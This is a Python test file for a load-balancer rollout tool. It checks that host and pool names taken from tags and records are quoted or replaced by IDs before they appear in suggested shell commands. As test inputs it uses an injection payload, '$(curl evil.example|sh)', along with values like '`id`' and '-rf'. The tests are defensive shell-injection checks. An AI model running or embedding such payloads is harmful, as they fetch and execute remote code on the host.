"""Names come from tags and records, and commands are pasted: no name becomes a word that a shell reads (I-26, S-4)."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from builders import NOW, a_fleet, a_host, a_pool, a_record, a_registration, hosts, lb_settings, views_of
from elbroll.core.names import host_word, pool_word
from elbroll.core.plan import Request, RolloutPlan, make_plan
from elbroll.model import HostId, PoolId, RecordState, Registration, Why

if TYPE_CHECKING:
    from elbroll.model import Fleet, HostRecord

WEB = a_pool("web-prod")
EVIL = "$(curl evil.example|sh)"
ONE, TWO, THREE, FOUR = (replace(host, name=f"{EVIL}{host.name}") for host in hosts(4))
ALL = (ONE, TWO, THREE, FOUR)
LOST = PoolId(f"tg/{EVIL}/1")


def plan(records: dict[HostId, HostRecord], fleet: Fleet | None = None, only: tuple[str, ...] = ()) -> RolloutPlan:
    fleet = fleet or a_fleet([WEB], ALL)
    return make_plan(fleet, views_of(fleet), records, Request(Why.ROLL, "v143", only=only), lb_settings(), NOW)


@pytest.mark.rule("I-26", "S-4")
@pytest.mark.parametrize("name", [EVIL, "a b", "-rf", "--yes", "`id`", "web-1;", "web*", "~", "web-1\n", "", None, "é"])
def test_a_host_without_a_plain_name_goes_by_its_id(name: str | None) -> None:
    assert host_word(name, ONE.id) == ONE.id
    assert host_word("web-1.a_b", ONE.id) == "web-1.a_b"
    assert host_word(name, HostId("ip-vpc-1-$(id)")) == "'ip-vpc-1-$(id)'"


@pytest.mark.rule("I-26")
def test_a_pool_is_quoted() -> None:
    assert (pool_word(LOST), pool_word(WEB.id)) == (f"'{EVIL}'", "web-prod")


@pytest.mark.rule("I-26", "S-4")
def test_what_leaves_a_host_out_names_its_id() -> None:
    (refusal,) = plan({ONE.id: a_record(ONE, [], RecordState.UNREADABLE)}).refusals

    assert f"or leave it out: --exclude {ONE.id}" in refusal.fix
    assert not [line for line in refusal.fix if EVIL in line]


@pytest.mark.rule("I-26", "S-4")
def test_what_puts_a_host_back_first_names_its_id() -> None:
    fleet = a_fleet([WEB], ALL, registrations={FOUR.id: []})
    records = {FOUR.id: a_record(FOUR, [a_registration(WEB, FOUR)])}
    (refusal,) = plan(records, fleet, only=(ONE.id,)).refusals

    assert refusal.fix == (f"elbroll restore {FOUR.id} first, or --yes if you accept 2 of 4 in service",)


@pytest.mark.rule("I-26", "S-4", "S-5")
def test_what_gives_up_a_recorded_pool_quotes_it_and_trusts_no_recorded_name() -> None:
    record = a_record(ONE, [a_registration(WEB, ONE), Registration(LOST, ONE.id, 80)], name=EVIL)
    told = next(line for line in plan({ONE.id: record}).warnings if "give-up" in line)

    assert told.endswith(f": elbroll restore {ONE.id} --give-up '{EVIL}'")
    assert a_host(1).id == ONE.id
